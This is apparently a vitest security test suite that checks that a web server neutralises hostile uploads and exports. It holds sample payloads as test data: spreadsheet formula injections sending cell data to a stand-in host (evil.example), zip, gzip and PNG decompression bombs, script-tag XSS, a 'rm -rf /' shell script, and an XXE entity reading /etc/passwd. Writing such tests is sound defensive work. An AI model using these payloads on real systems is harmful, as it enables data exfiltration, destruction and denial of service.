// Files that attack: cells that would run as formulas, archives and pictures that unpack to more than there is, files that pretend.
import { deflateSync, gzipSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { readWorkbook } from '../../server/spreadsheet/read-workbook.ts'
import { OPERATION_NEEDS } from '../../shared/access/action.ts'
import { OPERATIONS } from '../../shared/operations.ts'
import { fill } from '../server/programme-sample.ts'
import { get, problemOf } from '../support/door.ts'
import { PNG } from '../support/evidence-samples.ts'
import { aCommand, anUpdate, carryOut } from '../support/programme.ts'
import { startTestStation, type TestStation } from '../support/station.ts'
import { type StationProcess, startStationProcess } from '../support/station-process.ts'
import { temporaryFolder } from '../support/temporary-folder.ts'
import { xlsxParts, zipFile } from '../support/zip-file.ts'

const NOW = Date.parse('2026-11-25T10:00:00+07:00')

describe('a cell that a spreadsheet would run', () => {
  const STARTS = ['=', '+', '-', '@']
  const PAYLOADS = STARTS.map(start => `${start}HYPERLINK("http://evil.example?x="&A1,"bấm")`)
  const LISTS = OPERATIONS.filter(
    // Readings have tests of their own; nothing in their file was written by people.
    ({ answers, path }) => answers.some(({ type }) => type === 'text/csv') && !/:|\.csv$/.test(path),
  )
  let station: TestStation
  beforeAll(async () => {
    station = await startTestStation({ now: () => NOW })
    await fill(station)
    for (const [i, text] of PAYLOADS.entries()) {
      const data = {
        obstacle: `formula-${i}`,
        kind: 'obstacle',
        title: text,
        text,
        village: 'my-dong',
        task: null,
      } as const
      await carryOut(station, aCommand('raise-obstacle', data, { actor: { name: text, unit: 'so-khcn-2025' } }))
      const supervision = { village: 'my-dong', year: 2026, on: '2026-10-01', text } as const
      await carryOut(station, aCommand('note-supervision', supervision))
    }
    await carryOut(station, aCommand('update-task', anUpdate(PAYLOADS[0] ?? '')))
  })
  afterAll(() => station.stop())

  test.each(LISTS.map(({ path }) => path))('is text in %s', async path => {
    const csv = await get(`${station.url}${path}?format=csv`)
    expect(csv.headers.get('content-disposition')).toMatch(/^attachment/)
    // Beside the number, which may be below nothing, no cell begins as a formula does.
    const cells = cellsOf(String(csv.body))
    expect(cells.filter(cell => /^[=+\-@\t\r]/.test(cell) && Number.isNaN(Number(cell)))).toEqual([])

    const answer = await fetch(`${station.url}${path}?format=xlsx`)
    expect(answer.headers.get('content-disposition')).toMatch(/^attachment/)
    const bytes = Buffer.from(await answer.arrayBuffer())
    const workbook = await readWorkbook(bytes)
    if ('code' in workbook) throw new Error(workbook.en)
    expect(bytes.includes('<f>')).toBe(false)
  })

  test('was there: the lists carry the payloads, as text', async () => {
    const { body } = await get(`${station.url}/api/v1/programme/obstacles?format=csv`)
    for (const payload of PAYLOADS) expect(cellsOf(String(body))).toContain(`'${payload}`)
  })
})

describe('what unpacks to more than it should', () => {
  const folder = temporaryFolder()
  let station: StationProcess
  beforeAll(async () => {
    station = await startStationProcess(folder.path)
  })
  afterAll(async () => {
    await station.child.kill('SIGTERM')
    folder.remove()
  })
  const MIB = 1024 * 1024
  /** What the reading of a good file may take as well. */
  const ALLOWED_GROWTH = 300 * MIB
  const importTo = (bytes: Buffer) =>
    get(`${station.url}/api/v1/programme/import/tasks?actorName=a&actorUnit=so-khcn-2025`, {
      method: 'POST',
      headers: { 'content-type': 'application/octet-stream' },
      body: new Uint8Array(bytes),
    })
  const keep = (bytes: Buffer) =>
    get(`${station.url}/api/v1/programme/files`, { method: 'POST', body: new Uint8Array(bytes) })

  test.each<[string, () => Buffer]>([
    ['says so', () => zipFile([...xlsxParts(['']), { name: 'xl/media/a', content: Buffer.alloc(300 * MIB) }])],
    [
      'lies about it',
      () =>
        zipFile([
          ...xlsxParts(['']).filter(({ name }) => name !== 'xl/workbook.xml'),
          { name: 'xl/workbook.xml', content: Buffer.alloc(300 * MIB, ' '), announced: 1_000 },
        ]),
    ],
    [
      'is a ZIP of ZIPs',
      () => zipFile([{ name: 'a.zip', content: zipFile([{ name: 'b', content: Buffer.alloc(100 * MIB) }]) }]),
    ],
  ])('a workbook that %s is refused, and costs the station nothing', async (_what, make) => {
    const before = (await station.figures()).residentBytes
    const bytes = make()
    expect(bytes.length).toBeLessThan(MIB)
    expect([413, 422, 429]).toContain(problemOf(await importTo(bytes)).status)
    expect((await keep(bytes)).status).toBeLessThan(500)
    expect((await station.figures()).residentBytes - before).toBeLessThan(ALLOWED_GROWTH)
    expect((await get(`${station.url}/healthz`)).status).toBe(200)
  })

  test('a packed body is not unpacked at any door', async () => {
    const before = (await station.figures()).residentBytes
    const bomb = gzipSync(Buffer.alloc(500 * MIB, 0x20))
    for (const { id, method, path } of OPERATIONS) {
      // To one's own account nobody is let through here.
      if (method !== 'post' || OPERATION_NEEDS[id] === 'person') continue
      if (path.endsWith('/retry') || path.endsWith('/ingest')) continue
      // Nothing of the body is read before the ticket is looked at.
      if (path.endsWith('/entry/files')) continue
      const answer = await get(station.url + path.replace(':kind', 'tasks').replace(':id', 'display-1'), {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' },
        body: new Uint8Array(bomb),
      })
      expect([path, [413, 415].includes(problemOf(answer).status)]).toEqual([path, true])
    }
    expect((await station.figures()).residentBytes - before).toBeLessThan(ALLOWED_GROWTH)
  })

  test('a picture of four milliard dots is kept as bytes: nothing here unpacks pictures', async () => {
    const before = (await station.figures()).residentBytes
    const [width, height] = [65_535, 65_535]
    const bomb = Buffer.from(PNG)
    bomb.writeUInt32BE(width, 16)
    bomb.writeUInt32BE(height, 20)
    const whole = Buffer.concat([bomb.subarray(0, 33), deflateSync(Buffer.alloc(100 * MIB))])
    expect((await keep(whole)).status).toBe(200)
    expect((await station.figures()).residentBytes - before).toBeLessThan(ALLOWED_GROWTH)
  })

  test.each<[string, string]>([
    ['a page', '<!doctype html><script>alert(1)</script>'],
    ['a drawing with a script', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
    ['a script', '#!/bin/sh\nrm -rf /\n'],
    ['a page behind the mark of a picture', 'GIF89a/*<script>alert(1)</script>*/'],
    [
      'XML with an entity of the disk',
      '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>',
    ],
  ])('%s is no evidence, whatever it is called', async (_what, text) => {
    const answer = await get(`${station.url}/api/v1/programme/files`, {
      method: 'POST',
      headers: { 'content-type': 'image/png', 'content-disposition': 'attachment; filename="anh.png"' },
      body: text,
    })
    expect(problemOf(answer).status).toBe(415)
  })

  test('what is kept comes back as a download of its own kind, in a box of its own', async () => {
    // A true picture with a page inside it.
    const mixed = Buffer.concat([PNG, Buffer.from('<script>alert(1)</script>')])
    const { hash } = (await keep(mixed)).body as { hash: string }
    const { headers, status } = await get(`${station.url}/api/v1/programme/files/${hash}`)
    expect(status).toBe(200)
    expect(headers.get('content-type')).toBe('image/png')
    expect(headers.get('content-disposition')).toMatch(/^attachment; filename="[0-9a-f]{12}\.png"$/)
    expect(headers.get('content-security-policy')).toBe("sandbox; default-src 'none'")
    expect(headers.get('x-content-type-options')).toBe('nosniff')
  })
})

/** All cells of a CSV as a reader of RFC 4180 finds them. */
function cellsOf(csv: string): string[] {
  const cells: string[] = []
  for (const [, quoted, plain] of csv.replace('\uFEFF', '').matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^,\r\n]*))/g))
    cells.push(quoted === undefined ? (plain ?? '') : quoted.replaceAll('""', '"'))
  return cells
}
